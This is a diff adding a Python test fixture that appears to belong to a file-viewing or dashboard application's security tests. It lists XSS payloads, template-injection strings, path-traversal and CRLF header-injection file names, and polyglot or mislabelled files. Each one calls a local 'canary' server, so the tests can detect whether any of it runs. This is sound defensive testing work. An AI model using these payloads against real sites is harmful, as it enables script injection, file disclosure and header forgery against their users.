@@ -1,0 +1,151 @@
+"""What hostile names, texts and files try on whoever looks at them; each calls home to a server that counts."""
+
+from collections.abc import AsyncGenerator
+from contextlib import asynccontextmanager
+from dataclasses import dataclass, field
+from typing import Any
+
+import fakes
+
+
+@dataclass
+class Canary:
+    """A server of another origin: `calls` are the paths that anybody has asked it for."""
+
+    url: str = ""
+    calls: list[str] = field(default_factory=list)
+
+    async def __call__(self, scope: dict[str, Any], receive: Any, send: Any) -> None:
+        if scope["type"] == "lifespan":
+            while (await receive())["type"] != "lifespan.shutdown":
+                await send({"type": "lifespan.startup.complete"})
+            await send({"type": "lifespan.shutdown.complete"})
+            return
+        self.calls.append(scope["path"])
+        headers = [(b"content-type", b"text/javascript"), (b"access-control-allow-origin", b"*")]
+        await send({"type": "http.response.start", "status": 200, "headers": headers})
+        await send({"type": "http.response.body", "body": b"document.title = 'ran'"})
+
+
+@asynccontextmanager
+async def canary() -> AsyncGenerator[Canary]:
+    """The server, running."""
+    listening = Canary()
+    async with fakes.serve(listening) as url:
+        listening.url = url
+        yield listening
+
+
+def texts(home: str) -> list[str]:
+    """Texts that would run, load or lead away if a page took them for markup; each is short enough for a title.
+
+    Args:
+        home: The address of the canary.
+    """
+    call = f"fetch('{home}/ran')"
+    return [
+        f"<script>{call}</script>",
+        f"<script src={home}/script.js></script>",
+        f"</title></textarea></pre></script><script>{call}</script>",
+        f'"><img src=x onerror="{call}">',
+        f"'><img src={home}/pixel.png>",
+        f'" autofocus onfocus="{call}" x="',
+        f"<svg onload=\"{call}\"><a xlink:href='javascript:{call}'>",
+        f"<svg><style><img src=x onerror={call}></style>",
+        f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={call}>'>",
+        f'<noscript><p title="</noscript><img src=x onerror={call}>">',
+        f"<details open ontoggle={call}>",
+        f'<iframe srcdoc="<script>{call}</script>"></iframe>',
+        f"<iframe src={home}/frame></iframe><object data={home}/object></object><embed src={home}/embed>",
+        f"<meta http-equiv=refresh content='0;url={home}/away'>",
+        f"<base href={home}/base/>",
+        f"<link rel=stylesheet href={home}/style.css><style>@import '{home}/import.css';</style>",
+        f"<form action={home}/form id=f><input autofocus onfocus=f.submit()></form>",
+        f"<video poster={home}/poster><source src={home}/video onerror={call}></video>",
+        f"<div style='background:url({home}/background)'>",
+        f"javascript:{call}//",
+        f"data:text/html,<script>{call}</script>",
+        f"{{{{ ''.__class__.__mro__ }}}}{{% include '/etc/passwd' %}}${{{call}}}#{{{call}}}",
+        f"%3Cscript%3E{call}%3C/script%3E&lt;script&gt;{call}&lt;/script&gt;",
+        f"\u202e<script>{call}</script>\u2066\u200b\ufeff",
+        f"+ADw-script+AD4-{call}+ADw-/script+AD4-",
+        f"<scr\0ipt>{call}</scr\0ipt>",
+        f"[link](javascript:{call}) ![picture]({home}/markdown.png) <{home}/auto>",
+    ]
+
+
+def names() -> list[str]:
+    """File names that would leave their folder, forge a header, hide their kind or break a list."""
+    return [
+        "../../../../etc/passwd",
+        "..\\..\\windows\\system.ini",
+        "/absolute/path.txt",
+        "line\r\nSet-Cookie: dashboard=stolen\r\n\r\n<script>.html",
+        "report\u202efdp.exe",
+        'quote";filename="other.html',
+        "per%22cent%0d%0a.html",
+        "semi;colon=1, comma.txt",
+        "CON",
+        ".htaccess",
+        "",
+        "   ",
+        "...",
+        "a" * 3_000 + ".html",
+        "é" * 200 + ".txt",
+        "日本語のファイル.csv",
+        "😀\u200d😀.png",
+        "nul\0byte.png",
+        "<img src=x onerror=alert(1)>.html",
+        "\u2066\u2069\u200e\u200f",
+    ]
+
+
+def files(home: str) -> list[tuple[str, str, bytes]]:
+    """(name, MIME type, bytes) of files that would run if a browser showed them as what they are or claim to be.
+
+    Args:
+        home: The address of the canary.
+    """
+    script = f"<script>fetch('{home}/file')</script>"
+    page = f"<!doctype html><title>file</title>{script}<img src={home}/image>".encode()
+    svg = f"<svg xmlns='http://www.w3.org/2000/svg'>{script}<image href='{home}/svg'/></svg>".encode()
+    xhtml = f"<html xmlns='http://www.w3.org/1999/xhtml'><body>{script}</body></html>".encode()
+    sheet = (
+        f"<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
+        f"<xsl:template match='/'><html>{script}</html></xsl:template></xsl:stylesheet>"
+    )
+    styled = f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{home}/sheet.xsl'?>{sheet}".encode()
+    mixed = b"--part\r\nContent-Type: text/html\r\n\r\n" + page + b"\r\n--part--\r\n"
+    mail = (
+        b"MIME-Version: 1.0\r\nFrom: a@example.org\r\nMessage-ID: <1@example.org>\r\n"
+        b"Content-Type: multipart/related; boundary=part\r\n\r\n" + mixed
+    )
+    return [
+        ("page.html", "text/html", page),
+        ("page.html", "text/html; charset=utf-7", f"+ADw-script+AD4-fetch('{home}/utf7')+ADw-/script+AD4-".encode()),
+        ("picture.svg", "image/svg+xml", svg),
+        ("page.xhtml", "application/xhtml+xml", xhtml),
+        ("styled.xml", "text/xml", styled),
+        ("styled.xml", "application/xml", styled),
+        ("sheet.xsl", "application/xslt+xml", sheet.encode()),
+        ("mixed", "multipart/x-mixed-replace; boundary=part", mixed),
+        ("page.mhtml", "multipart/related", mail),
+        ("mail.eml", "message/rfc822", mail),
+        ("photo.png", "image/png", page),
+        ("photo.jpg", "image/jpeg", svg),
+        ("notes.txt", "text/plain", page),
+        ("paper.pdf", "application/pdf", page),
+        (
+            "paper.pdf",
+            "application/pdf",
+            b"%PDF-1.7\n1 0 obj<</OpenAction<</S/URI/URI(" + home.encode() + b"/pdf)>>>>endobj",
+        ),
+        ("both.gif", "image/gif", b"GIF89a/*" + page + b"*/=1;fetch('" + home.encode() + b"/gif')"),
+        ("code.js", "text/javascript", f"fetch('{home}/js')".encode()),
+        ("style.css", "text/css", f"@import '{home}/css';".encode()),
+        ("cache.manifest", "text/cache-manifest", b"CACHE MANIFEST\n/\n"),
+        ("no type", "", page),
+        ("odd type", "text/html\r\nX-Injected: yes", page),
+        ("many types", "text/plain, text/html", page),
+        ("long type", "text/" + "x" * 200, page),
+    ]
